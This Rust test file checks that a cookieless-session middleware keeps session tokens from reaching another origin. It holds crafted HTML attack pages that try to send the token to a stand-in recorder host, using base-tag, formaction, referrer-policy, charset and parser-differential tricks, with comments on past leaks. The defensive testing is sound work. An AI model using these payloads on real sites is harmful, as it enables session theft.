//! Attack pages in a real browser: Chromium follows every link, submits every form with every
//! submitter and fires pings, and a recording server on another origin must never receive the
//! session token, in any URL, header or body.
//!
//! The oracle is Chromium itself and a plain TCP recorder: nothing here shares the rewriter's
//! view of the page.

use std::{
    net::SocketAddr,
    sync::{Arc, Mutex},
    time::Duration,
};

use actix_cookieless::{CookielessSession, MemoryStore, Session, Settings};
use actix_web::{App, HttpRequest, HttpResponse, HttpServer, dev::Service as _, http::header, web};

use crate::{recorder::Recorder, webdriver::Browser};

/// The attack pages, `{OTHER}` standing for the recorder's origin and `{OTHER_HOST}` for its
/// host and port. Each names the recorder paths a browser must request from it (so the test
/// sees that the attack ran).
const PAGES: &[(&str, &str, &[&str])] = &[
    (
        "control",
        r#"<form method=post action="/control"><input name=a value=1><button>s</button></form>
        <a href="/control-link">same</a>"#,
        &[],
    ),
    (
        "implicit-close",
        r#"<div><form action="{OTHER}/implicit"><input name=q value=1></div>
        <form method=post action="/local"><input name=x value=2><button>go</button></form>"#,
        &["/implicit"],
    ),
    (
        "form-attribute-after",
        r#"<form id=f method=post action="/x"><input name=a value=1></form>
        <button form=f formaction="{OTHER}/form-attribute-after">x</button>"#,
        &["/form-attribute-after"],
    ),
    (
        "form-attribute-before",
        r#"<button form=f formaction="{OTHER}/form-attribute-before">x</button>
        <form id=f method=post action="/x"><input name=a value=1></form>"#,
        &["/form-attribute-before"],
    ),
    (
        "ancestor-close",
        r#"<div><form method=post action="/x"><input name=a value=1></div>
        <button formaction="{OTHER}/ancestor-close">go</button>"#,
        &["/ancestor-close"],
    ),
    (
        "ping",
        r#"<a href="/same" ping="{OTHER}/ping">same, pinging</a>"#,
        &["/ping"],
    ),
    (
        "referrer-attributes",
        r##"<a href="{OTHER}/a-referrer" referrerpolicy="unsafe-url">a</a>
        <img src="{OTHER}/img-referrer" referrerpolicy="unsafe-url">
        <iframe src="{OTHER}/iframe-referrer" referrerpolicy="unsafe-url"></iframe>
        <link rel=stylesheet href="{OTHER}/link-referrer" referrerpolicy="no-referrer-when-downgrade">
        <script src="{OTHER}/script-referrer" referrerpolicy="origin-when-cross-origin"></script>
        <map name=m><area href="{OTHER}/area-referrer" referrerpolicy=unsafe-url shape=default></map>
        <img usemap="#m" src="/pixel" width=10 height=10>"##,
        &[
            "/a-referrer",
            "/img-referrer",
            "/iframe-referrer",
            "/script-referrer",
        ],
    ),
    (
        "meta-referrer",
        r#"<meta name="referrer" content="unsafe-url"><img src="{OTHER}/meta-referrer">
        <a href="{OTHER}/meta-referrer-link">away</a>"#,
        &["/meta-referrer", "/meta-referrer-link"],
    ),
    (
        "late-base",
        r#"<a href="next">relative</a>
        <form method=post action="submit"><input name=a value=1><button>s</button></form>
        <base href="{OTHER}/base/">"#,
        &[],
    ),
    (
        "formmethod-get",
        r#"<form method=post action="/x"><input name=a value=1><button formmethod=get>g</button></form>"#,
        &[],
    ),
    (
        "svg",
        r#"<svg width=200 height=60><a href="{OTHER}/svg-link"><text y=20>away</text></a>
        <a xlink:href="/same-svg"><text y=40>same</text></a></svg>"#,
        &["/svg-link"],
    ),
    // Keywords written with character references: a browser decodes them before reading them.
    (
        "entity-submitter",
        r#"<form method=post action="/x"><input name=a value=1>
        <input type="subm&#105;t" formaction="{OTHER}/entity-submitter" value=go></form>"#,
        &["/entity-submitter"],
    ),
    (
        "entity-form-attribute",
        r#"<form id=f method=post action="/x"><input name=a value=1></form>
        <button form="&#102;" formaction="{OTHER}/entity-form-attribute">x</button>"#,
        &["/entity-form-attribute"],
    ),
    (
        "entity-meta-referrer",
        r#"<meta name="r&#101;ferrer" content="unsafe-url"><img src="{OTHER}/entity-meta-referrer">
        <a href="{OTHER}/entity-meta-referrer-link">away</a>"#,
        &["/entity-meta-referrer", "/entity-meta-referrer-link"],
    ),
    (
        "entity-http-equiv",
        r#"<meta http-equiv="Referrer-P&#111;licy" content="unsafe-url"><img src="{OTHER}/entity-http-equiv">"#,
        &["/entity-http-equiv"],
    ),
    // The tree builder turns `<image>` into `<img>`.
    (
        "image-referrer",
        r#"<image src="{OTHER}/image-referrer" referrerpolicy="unsafe-url">"#,
        &["/image-referrer"],
    ),
    (
        "srcdoc-referrer",
        r#"<iframe srcdoc="<meta name=referrer content=unsafe-url><img src={OTHER}/srcdoc-meta><img referrerpolicy=unsafe-url src={OTHER}/srcdoc-attribute>"></iframe>"#,
        &["/srcdoc-meta", "/srcdoc-attribute"],
    ),
    (
        "refresh",
        r#"<meta http-equiv=refresh content="0; {OTHER}/refresh">"#,
        &["/refresh"],
    ),
    // lol_html misread `<title a=>` (the data state after it, not RCDATA): it read the
    // `<!--` in the title as a comment, so the `<base>` every browser sees was hidden from it,
    // and the link and the form after it got the token. Now no token is placed from that tag
    // on, and where one is already out (the page's URL carries one) the rest goes: it names a
    // base.
    (
        "misread-title",
        r#"<title a=><x><!--</title><base href="{OTHER}/">--><a href="/misread-link">m</a>
        <form method=post action="/misread-form"><input name=a value=1><button>go</button></form>"#,
        &[],
    ),
    // After the `<img>` the browser has left both `<svg>`s and reads `<style>` as HTML, its
    // text up to `</style>`; lol_html, still in one `<svg>`, read an SVG `<style>` closed by
    // `</svg>` and then a comment that hid the `<base>`, which moved the link given the token
    // before it to the other origin (`rewrite_pieces`). Now the rest is judged whole: it
    // names a base, so it goes.
    (
        "nested-svg-hidden-base",
        r#"<a href="/nested-svg-link">n</a><svg><svg><img src=/i><style></svg><!--</style><base href="{OTHER}/">"#,
        &[],
    ),
    // The same with a `<title>`, which lol_html names HTML but reads as markup there.
    (
        "nested-svg-title-hidden-base",
        r#"<a href="/nested-title-link">n</a><svg><svg><img src=/i><title><!--</title><base href="{OTHER}/">"#,
        &[],
    ),
    // `http:/path` has a scheme but no two slashes: the URL parser reads it against the base
    // (of the same scheme, a path on its host). The rewriter took it for absolute, so the
    // `<base>` after it moved the link given the token to the other origin (`rewrite_html`).
    (
        "special-scheme-without-slashes",
        r#"<a href="http:/special-scheme-link">s</a><base href="{OTHER}/">"#,
        &[],
    ),
    // A `</form>` inside a `<select>` (matched by lol_html with the form there, which every
    // browser ignores): Chromium's relaxed `<select>` parser clears the pointer but leaves the
    // outer form open, so the second `</form>` closes nothing and the button after it still
    // submits that form. The rewriter took that `</form>` for the form's clean close and
    // released it: the form's token went to the other origin (`rewrite_pieces`, then a sweep).
    // An HTML element left open in an SVG `<title>`: the browser ignores `</title>` there and
    // reads the `<style>` after it as HTML (raw text), then the `<base>`; lol_html left the
    // `<title>`, read an SVG `<style>` whose `<!--` hid that base, and so let it move the
    // link given the token before it (`rewrite_pieces`, then a sweep).
    (
        "integration-point-left-open",
        r#"<a href="integration-point-link">n</a><svg><title><b>x</title><style><!--</style>
        <base href="{OTHER}/">--></style></svg>"#,
        &[],
    ),
    // A formatting element left in the list of active ones: the `<form>` tag closes the `<p>`
    // and the `<b>`, the form's first control makes the `<b>` again inside the form, and it
    // stays open after `</form>`: the button after it still submits the form. The rewriter
    // saw the form close cleanly and released it: its token went to the other origin.
    (
        "formatting-reopened",
        r#"<p><b>x<form method=post action="/formatting-local"><input name=a value=1></form>
        <button formaction="{OTHER}/formatting-reopened">go</button>"#,
        &["/formatting-reopened"],
    ),
    // The same inside the form: `</p>` closes the `<b>`, and the input after it makes it
    // again as the form's child, still open after `</form>`.
    (
        "formatting-closed-in-form",
        r#"<form method=post action="/formatting-in-local"><p><b>x</p><input name=a value=1></form>
        <button formaction="{OTHER}/formatting-closed-in-form">go</button>"#,
        &["/formatting-closed-in-form"],
    ),
    // A tag breaking out of foreign content: the browser pops the `<svg>`, lol_html's element
    // stack keeps it, and the second `<svg>` (foster parented into the table) is closed by the
    // browser's `</table>` alone. lol_html stayed in it and read the textarea's `<!--` as a
    // comment, missing the referrer policy after it: the link sent the page's URL away.
    (
        "breakout-hidden-meta",
        r#"<a href="{OTHER}/breakout-hidden-meta">away</a><svg><table></svg><svg></table>
        <textarea><!--</textarea><meta name=referrer content=unsafe-url>"#,
        &["/breakout-hidden-meta"],
    ),
    (
        "select-form-end",
        r#"<form method=post action="/select-form-end-local"><input name=a value=1>
        <select><form></form></select></form>
        <button formaction="{OTHER}/select-form-end">go</button>"#,
        &["/select-form-end"],
    ),
];

/// Attack pages for a browser without JavaScript, which reads `<noscript>` content as markup;
/// loaded, and where they have a `#go` submitter, submitted by a WebDriver click (which needs
/// no JavaScript in the page).
const NOSCRIPT_PAGES: &[(&str, &str, &[&str])] = &[
    // The browser reads `<noscript>` as markup here: its image loads.
    (
        "noscript-control",
        r#"<noscript><img src="{OTHER}/noscript-control"></noscript>"#,
        &["/noscript-control"],
    ),
    // The rewriter removes these contents: their requests never happen.
    (
        "noscript-meta-referrer",
        r#"<noscript><meta name=referrer content=unsafe-url></noscript><img src="{OTHER}/noscript-meta">"#,
        &["/noscript-meta"],
    ),
    (
        "noscript-img-referrer",
        r#"<noscript><img src="{OTHER}/noscript-img" referrerpolicy=unsafe-url></noscript>"#,
        &[],
    ),
    // A form start tag left open in `<noscript>` takes the form element pointer: the form
    // after it is ignored, and its controls (the token input among them) join the first one.
    (
        "noscript-form-get",
        r#"<noscript><form action="{OTHER}/noscript-form-get"></noscript>
        <form method=post action="/x"><input name=a value=1><button id=go>go</button></form>"#,
        &[],
    ),
    (
        "noscript-form-post",
        r#"<noscript><form method=post action="{OTHER}/noscript-form-post"></noscript>
        <form method=post action="/x"><input name=a value=1><button id=go>go</button></form>"#,
        &[],
    ),
    // Without JavaScript `<noscript>` is markup, and its `</noscript>` is ignored behind the
    // `<p>`: the `<form>` closes the `<p>` and the `<b>`, which the input makes again inside
    // the form, still open after `</form>`: the button after it submits the form.
    (
        "noscript-formatting",
        r#"<noscript><p><b>x</noscript><form method=post action="/y"><input name=a value=1></form>
        <button id=go formaction="{OTHER}/noscript-formatting">go</button>"#,
        &["/noscript-formatting"],
    ),
];

/// Pages built at run time: too large for a literal, or not UTF-8.
fn page_body(name: &str, other: &str, other_host: &str) -> (Vec<u8>, &'static str) {
    let utf8 = "text/html; charset=utf-8";
    match name {
        // The form's cross-site submitter comes 300 KiB after `<form>`.
        "overflow" => {
            let filler = "<p>filler</p>".repeat(300 * 1024 / 13);
            let page = format!(
                r#"<form method=post action="/x"><input name=a value=1>{filler}<button formaction="{other}/overflow">s</button></form>"#
            );
            (page.into_bytes(), utf8)
        }
        // A tag larger than lol_html's memory limit, then a cross-site submitter.
        "bailout" => {
            let huge = "a".repeat(1100 * 1024);
            let page = format!(
                r#"<form method=post action="/x"><input name=a value=1><div title="{huge}">x</div><button formaction="{other}/bailout">s</button></form>"#
            );
            (page.into_bytes(), utf8)
        }
        // A `type` that starts with a UTF-16 byte order mark: lol_html read `button`, the
        // browser an invalid type, so this button submits its form there.
        "bom-submitter" => {
            let mut page = br#"<!doctype html><form method=post action="/x"><input name=a value=1><button type=""#.to_vec();
            page.extend_from_slice(b"\xFE\xFF\0b\0u\0t\0t\0o\0n");
            page.extend_from_slice(
                format!(r#"" formaction="{other}/bom-submitter">go</button></form>"#).as_bytes(),
            );
            (page, utf8)
        }
        // Served without a charset: decoded as ISO-2022-JP, "/ESC(J/host" is "//host".
        "charset" => {
            let page = format!(
                "<meta charset=\"iso-2022-jp\"><a href=\"/\x1b(J/{other_host}/charset-link\">x</a>\
                 <form method=post action=\"/\x1b(J/{other_host}/charset-form\"><button>s</button></form>"
            );
            (page.into_bytes(), "text/html")
        }
        _ => {
            // A relative link on a page under /attack/ lands on a name with no page.
            let served = name.strip_suffix("-streamed").unwrap_or(name);
            let html = PAGES
                .iter()
                .chain(NOSCRIPT_PAGES)
                .find(|(n, _, _)| *n == served)
                .map_or("<p>own page", |(_, html, _)| html);
            let page =
                format!("<!doctype html><title>{name}</title>{html}").replace("{OTHER}", other);
            (page.into_bytes(), utf8)
        }
    }
}

/// Where the page's own URL carries a token (with `use_get`; through the proxy without it, the
/// redirect token of `/start`'s redirect), the rewriter removes a link's `ping` to another
/// origin and an iframe `srcdoc` that sets a referrer policy: those requests are expected only
/// on a page whose URL carries none.
const ONLY_WITHOUT_A_TOKEN_IN_THE_PAGE_URL: &[&str] =
    &["/ping", "/srcdoc-meta", "/srcdoc-attribute"];

const BUILT_PAGES: &[(&str, &[&str])] = &[
    ("overflow", &["/overflow"]),
    ("bailout", &["/bailout"]),
    ("charset", &["/charset-link", "/charset-form"]),
    ("bom-submitter", &["/bom-submitter"]),
    // The two formatting pages above, streamed (no length: the rewriter cannot read ahead, and
    // releases the form at its `</form>`). The button after the form is given no form: its
    // click sends nothing anywhere, where before it sent the form's token away.
    ("formatting-reopened-streamed", &[]),
    ("formatting-closed-in-form-streamed", &[]),
];

/// The page as its handler answers it: one named `…-streamed` in two chunks and no length (the
/// middleware and the proxy stream it), any other with its length (held whole).
fn page_response(name: &str, body: Vec<u8>, content_type: &str) -> HttpResponse {
    let mut response = HttpResponse::Ok();
    response.insert_header((header::CONTENT_TYPE, content_type));
    if !name.ends_with("-streamed") {
        return response.body(body);
    }
    let mut first = web::Bytes::from(body);
    let second = first.split_off(first.len() / 2);
    let chunks = [first, second].map(Ok::<_, std::convert::Infallible>);
    response.streaming(futures_util::stream::iter(chunks))
}

/// What the own site saw: each request's method and URL, whether it carried the session, and
/// every token it issued.
#[derive(Default)]
struct Own {
    requests: Mutex<Vec<(String, String, bool)>>,
    tokens: Mutex<Vec<String>>,
    /// Each page as the browser showed it once loaded (its path, size and start).
    shown: Mutex<Vec<String>>,
}

impl Own {
    /// Keeps the token `res` issues, if any.
    fn keep_token<B>(&self, res: &actix_web::dev::ServiceResponse<B>) {
        if let Some(token) = res.headers().get("x-session-id") {
            let token = token.to_str().unwrap().to_owned();
            self.tokens.lock().unwrap().push(token);
        }
    }
}

/// The site under test on 127.0.0.1: `/start/{page}` opens a session and redirects to the
/// page (so with `use_get` the page's own URL carries the token, as a link would give it).
fn serve_site(use_get: bool, other: String) -> (SocketAddr, Arc<Own>) {
    let own = Arc::new(Own::default());
    let (tx, rx) = std::sync::mpsc::channel();
    let server_own = Arc::clone(&own);
    std::thread::spawn(move || {
        actix_web::rt::System::new().block_on(async move {
            let mut settings = Settings::new("browser-leak-test-secret-0123456789abcdef");
            settings.use_get = use_get;
            let cookieless = CookielessSession::builder(MemoryStore::default(), settings)
                .build()
                .unwrap();
            let other = Arc::new(other);
            let server = HttpServer::new(move || {
                let own = Arc::clone(&server_own);
                let tokens = Arc::clone(&server_own);
                let other = Arc::clone(&other);
                App::new()
                    .app_data(web::Data::from(own))
                    .app_data(web::Data::from(other))
                    // Wrapped after the middleware, so outside it: sees the token it issues.
                    .wrap(cookieless.clone())
                    .wrap_fn(move |req, srv| {
                        let tokens = Arc::clone(&tokens);
                        let res = srv.call(req);
                        async move { res.await.inspect(|res| tokens.keep_token(res)) }
                    })
                    .route("/start/{page}", web::get().to(start))
                    .route("/attack/{page}", web::get().to(attack))
                    .default_service(web::to(elsewhere))
            })
            .workers(2)
            .bind(("127.0.0.1", 0))
            .unwrap();
            tx.send(server.addrs()[0]).unwrap();
            server.run().await
        })
    });
    (rx.recv().expect("the site started"), own)
}

/// The same site as a cookie app (no cookieless in it) behind `cookieless-proxy`: `/start/{page}`
/// sets the app's cookie `mark=1` and redirects to the page, which the app serves as above; a
/// request carried the session when the app got its cookie back.
#[cfg(feature = "proxy")]
fn serve_proxied_site(use_get: bool, other: String) -> (SocketAddr, Arc<Own>) {
    use actix_cookieless::proxy::{Proxy, ProxySettings};

    let own = Arc::new(Own::default());
    let (tx, rx) = std::sync::mpsc::channel();
    let server_own = Arc::clone(&own);
    std::thread::spawn(move || {
        actix_web::rt::System::new().block_on(async move {
            let other = Arc::new(other);
            let app_own = Arc::clone(&server_own);
            let app = HttpServer::new(move || {
                App::new()
                    .app_data(web::Data::from(Arc::clone(&app_own)))
                    .app_data(web::Data::from(Arc::clone(&other)))
                    .route(
                        "/start/{page}",
                        web::get().to(|page: web::Path<String>| async move {
                            HttpResponse::SeeOther()
                                .insert_header((header::SET_COOKIE, "mark=1; Path=/"))
                                .insert_header((header::LOCATION, format!("/attack/{page}")))
                                .finish()
                        }),
                    )
                    .route(
                        "/attack/{page}",
                        web::get().to(
                            |page: web::Path<String>, other: web::Data<String>| async move {
                                let other_host = other.trim_start_matches("http://").to_owned();
                                let (body, content_type) = page_body(&page, &other, &other_host);
                                page_response(&page, body, content_type)
                            },
                        ),
                    )
                    .default_service(web::to(
                        |req: HttpRequest, own: web::Data<Own>| async move {
                            let carried = req
                                .headers()
                                .get(header::COOKIE)
                                .is_some_and(|c| c.as_bytes() == b"mark=1");
                            own.requests.lock().unwrap().push((
                                req.method().to_string(),
                                req.uri().to_string(),
                                carried,
                            ));
                            HttpResponse::Ok()
                                .content_type("text/html; charset=utf-8")
                                .body("<!doctype html><title>own</title><p>own page")
                        },
                    ))
            })
            .workers(2)
            .bind(("127.0.0.1", 0))
            .unwrap();
            let upstream = app.addrs()[0];
            actix_web::rt::spawn(app.run());

            let mut settings = Settings::new("browser-leak-test-secret-0123456789abcdef");
            settings.use_get = use_get;
            let mut proxy_settings = ProxySettings::default();
            proxy_settings.upstream = format!("http://{upstream}");
            let proxy = Proxy::new(proxy_settings, &settings).unwrap();
            let cookieless = CookielessSession::builder(MemoryStore::default(), settings)
                .build()
                .unwrap();
            let server = HttpServer::new(move || {
                let tokens = Arc::clone(&server_own);
                App::new()
                    .configure(|cfg| proxy.configure(cfg))
                    .wrap(cookieless.clone())
                    .wrap_fn(move |req, srv| {
                        let tokens = Arc::clone(&tokens);
                        let res = srv.call(req);
                        async move { res.await.inspect(|res| tokens.keep_token(res)) }
                    })
            })
            .workers(2)
            .bind(("127.0.0.1", 0))
            .unwrap();
            tx.send(server.addrs()[0]).unwrap();
            server.run().await
        })
    });
    (rx.recv().expect("the proxied site started"), own)
}

async fn start(session: Session, page: web::Path<String>) -> actix_web::Result<HttpResponse> {
    session.insert("mark", true)?;
    Ok(HttpResponse::SeeOther()
        .insert_header((header::LOCATION, format!("/attack/{page}")))
        .finish())
}

async fn attack(
    session: Session,
    page: web::Path<String>,
    other: web::Data<String>,
) -> actix_web::Result<HttpResponse> {
    session.insert("mark", true)?;
    let other_host = other.trim_start_matches("http://").to_owned();
    let (body, content_type) = page_body(&page, &other, &other_host);
    Ok(page_response(&page, body, content_type))
}

async fn elsewhere(session: Session, req: HttpRequest, own: web::Data<Own>) -> HttpResponse {
    let carried = matches!(session.get::<bool>("mark"), Ok(Some(true)));
    let url = req.uri().to_string();
    own.requests
        .lock()
        .unwrap()
        .push((req.method().to_string(), url, carried));
    HttpResponse::Ok()
        .content_type("text/html; charset=utf-8")
        .body("<!doctype html><title>own</title><p>own page")
}

/// Every action a visitor can take on the page, as a script: click each link, area and
/// submitter (SVG links too), submit each form without a submitter.
const ACTIONS: &str = r"
    const targets = [...document.querySelectorAll('a, area, button, input[type=submit], input[type=image]')];
    const acts = targets.map(el => () => el.dispatchEvent(new MouseEvent('click', {bubbles: true, cancelable: true})));
    document.querySelectorAll('form').forEach(form => acts.push(() => form.submit()));
";

/// Loads the page fresh for each action and runs it, waiting for `quiet` after each.
fn visit(
    browser: &Browser,
    site: SocketAddr,
    recorder: &Recorder,
    own: &Own,
    page: &str,
    quiet: Duration,
) {
    let url = format!("http://{site}/start/{page}");
    let label = |what: String| *recorder.during.lock().unwrap() = what;
    label(format!("{page}: load"));
    browser.goto(&url);
    wait_quiet(recorder, own, LOAD_QUIET);
    let count = browser
        .execute(&format!("{ACTIONS} return acts.length;"))
        .as_u64()
        .unwrap_or(0);
    // What the browser shows, for the failure message should a page's attack not run.
    let shown = browser.execute(
        "return location.pathname + ' ' + document.documentElement.outerHTML.length \
         + ' bytes: ' + document.documentElement.outerHTML.slice(0, 120);",
    );
    own.shown
        .lock()
        .unwrap()
        .push(format!("{page}: {count} actions, {shown}"));
    for i in 0..count {
        label(format!("{page}: action {i}"));
        browser.goto(&url);
        // After the script returns, so the navigation does not cut it short.
        browser.execute(&format!(
            "{ACTIONS} if (acts[{i}]) setTimeout(acts[{i}], 0); return acts.length;"
        ));
        wait_quiet(recorder, own, quiet);
    }
}

/// How long no request may reach either origin before a page counts as loaded, an action as
/// done (longer than the fixed 400 ms these tests slept before: a submission of a 300 KiB form
/// takes its time), and before the recorder is read at the end (pings and subresources may come
/// late). Each is a floor: a request that comes meanwhile starts it again.
const LOAD_QUIET: Duration = Duration::from_millis(300);
const ACTION_QUIET: Duration = Duration::from_millis(700);
/// The same on the visits again of a page whose attack did not run, and how many there may be:
/// CI's loaded runners have let 700 ms pass before a big page's submission left the browser.
const RETRY_QUIET: Duration = Duration::from_secs(3);
const RETRIES: usize = 3;
const FINAL_QUIET: Duration = Duration::from_secs(1);

/// Waits until neither the other origin nor the site received a request for `quiet` (at
/// most 20 s): a fixed sleep would miss a request that comes late.
fn wait_quiet(recorder: &Recorder, own: &Own, quiet: Duration) {
    let count = || recorder.requests.lock().unwrap().len() + own.requests.lock().unwrap().len();
    let give_up = std::time::Instant::now() + Duration::from_secs(20);
    let (mut seen, mut since) = (count(), std::time::Instant::now());
    while since.elapsed() < quiet {
        assert!(
            std::time::Instant::now() < give_up,
            "requests never stopped coming"
        );
        std::thread::sleep(Duration::from_millis(25));
        let now = count();
        if now != seen {
            (seen, since) = (now, std::time::Instant::now());
        }
    }
}

/// The other origin received no request holding a token the site issued.
fn assert_no_leak(recorder: &Recorder, own: &Own, use_get: bool) {
    let tokens = own.tokens.lock().unwrap().clone();
    assert!(!tokens.is_empty(), "the site issued no token");
    let requests = recorder.requests.lock().unwrap();
    let leaks: Vec<String> = requests
        .iter()
        .filter(|r| {
            r.raw.to_ascii_lowercase().contains("sessionid")
                || tokens.iter().any(|token| r.raw.contains(token.as_str()))
        })
        .map(|r| format!("during {}:\n{}", r.during, r.raw))
        .collect();
    drop(requests);
    assert!(
        leaks.is_empty(),
        "use_get = {use_get}: the other origin received the token {} times:\n{}",
        leaks.len(),
        leaks.join("\n---\n")
    );
}

/// The site the attack pages are on: the actix middleware's, or a cookie app's behind the proxy.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Site {
    Direct,
    #[cfg(feature = "proxy")]
    Proxied,
}

impl Site {
    fn serve(self, use_get: bool, other: String) -> (SocketAddr, Arc<Own>) {
        match self {
            Self::Direct => serve_site(use_get, other),
            #[cfg(feature = "proxy")]
            Self::Proxied => serve_proxied_site(use_get, other),
        }
    }
}

fn no_token_reaches_another_origin(use_get: bool, site: Site) {
    let recorder = Recorder::start();
    let (site_addr, own) = site.serve(use_get, recorder.origin());
    let browser = Browser::start();
    let url_carries_token = use_get || site != Site::Direct;
    // Each page, and the cross-site requests its attacks make.
    let pages: Vec<(&str, Vec<&str>)> = PAGES
        .iter()
        .map(|(name, _, paths)| (*name, *paths))
        .chain(BUILT_PAGES.iter().copied())
        .map(|(name, paths)| {
            let expected = paths.iter().copied().filter(|path| {
                !(url_carries_token && ONLY_WITHOUT_A_TOKEN_IN_THE_PAGE_URL.contains(path))
            });
            (name, expected.collect())
        })
        .collect();
    for (page, _) in &pages {
        visit(&browser, site_addr, &recorder, &own, page, ACTION_QUIET);
    }
    wait_quiet(&recorder, &own, FINAL_QUIET);
    // A page whose attack did not reach the other origin is visited again, with longer waits,
    // said on stderr: on CI's loaded runs the proxied 300 KiB and 1 MiB pages' submissions
    // sometimes never came (never here). Every request of every visit is judged for leaks below.
    let missing = |paths: &[&str]| {
        let seen = recorder.paths();
        paths
            .iter()
            .any(|path| !seen.iter().any(|p| p.starts_with(path)))
    };
    for (page, paths) in &pages {
        for retry in 1..=RETRIES {
            if !missing(paths) {
                break;
            }
            eprintln!(
                "use_get = {use_get}: {page}'s attack did not run; visit {retry} again. The \
                 pages as shown: {:#?}",
                own.shown.lock().unwrap()
            );
            visit(&browser, site_addr, &recorder, &own, page, RETRY_QUIET);
            wait_quiet(&recorder, &own, FINAL_QUIET);
        }
    }
    assert_no_leak(&recorder, &own, use_get);

    // The attacks ran: the other origin saw each page's cross-site request.
    let seen = recorder.paths();
    for path in pages.iter().flat_map(|(_, paths)| paths) {
        assert!(
            seen.iter().any(|p| p.starts_with(path)),
            "use_get = {use_get}: the other origin never saw {path}; it saw {seen:?}; the pages \
             as shown: {:#?}",
            own.shown.lock().unwrap()
        );
    }

    // And the token still goes where it should: the control page's form (and link with
    // use_get) kept the session; without use_get no URL on the site carried a token.
    let own_requests = own.requests.lock().unwrap();
    let carried = |method: &str, path: &str| {
        own_requests
            .iter()
            .any(|(m, url, carried)| m == method && url.split('?').next() == Some(path) && *carried)
    };
    assert!(carried("POST", "/control"), "{own_requests:?}");
    assert_eq!(carried("GET", "/control-link"), use_get, "{own_requests:?}");
    if !use_get {
        let in_urls: Vec<_> = own_requests
            .iter()
            .filter(|(_, url, _)| url.contains("sessionid"))
            .collect();
        assert!(in_urls.is_empty(), "tokens in URLs: {in_urls:?}");
    }
}

#[test]
fn no_token_reaches_another_origin_with_use_get() {
    no_token_reaches_another_origin(true, Site::Direct);
}

#[test]
fn no_token_reaches_another_origin_without_use_get() {
    no_token_reaches_another_origin(false, Site::Direct);
}

#[cfg(feature = "proxy")]
#[test]
fn no_token_reaches_another_origin_through_the_proxy_with_use_get() {
    no_token_reaches_another_origin(true, Site::Proxied);
}

#[cfg(feature = "proxy")]
#[test]
fn no_token_reaches_another_origin_through_the_proxy_without_use_get() {
    no_token_reaches_another_origin(false, Site::Proxied);
}

/// Without JavaScript a browser reads `<noscript>` content as markup, where lol_html (and the
/// browser with JavaScript) read text: its referrer policies must not send the token either.
#[test]
fn no_token_reaches_another_origin_without_javascript() {
    without_javascript(Site::Direct);
}

#[cfg(feature = "proxy")]
#[test]
fn no_token_reaches_another_origin_through_the_proxy_without_javascript() {
    without_javascript(Site::Proxied);
}

fn without_javascript(site: Site) {
    let recorder = Recorder::start();
    let (site, own) = site.serve(true, recorder.origin());
    let browser = Browser::start_without_javascript();
    for (page, html, _) in NOSCRIPT_PAGES {
        *recorder.during.lock().unwrap() = format!("{page}: load");
        browser.goto(&format!("http://{site}/start/{page}"));
        wait_quiet(&recorder, &own, ACTION_QUIET);
        if html.contains("id=go") {
            *recorder.during.lock().unwrap() = format!("{page}: submit");
            let go = browser.find("#go");
            browser.click(&go);
            wait_quiet(&recorder, &own, ACTION_QUIET);
        }
    }
    wait_quiet(&recorder, &own, FINAL_QUIET);
    assert_no_leak(&recorder, &own, true);
    // The page's own form still posts here, with the session.
    let own_requests = own.requests.lock().unwrap();
    let posted = own_requests
        .iter()
        .filter(|(m, url, carried)| m == "POST" && url.starts_with("/x") && *carried)
        .count();
    assert_eq!(posted, 2, "{own_requests:?}");
    drop(own_requests);
    let seen = recorder.paths();
    for (_, _, paths) in NOSCRIPT_PAGES {
        for path in *paths {
            assert!(
                seen.iter().any(|p| p.starts_with(path)),
                "the other origin never saw {path}; it saw {seen:?}"
            );
        }
    }
}
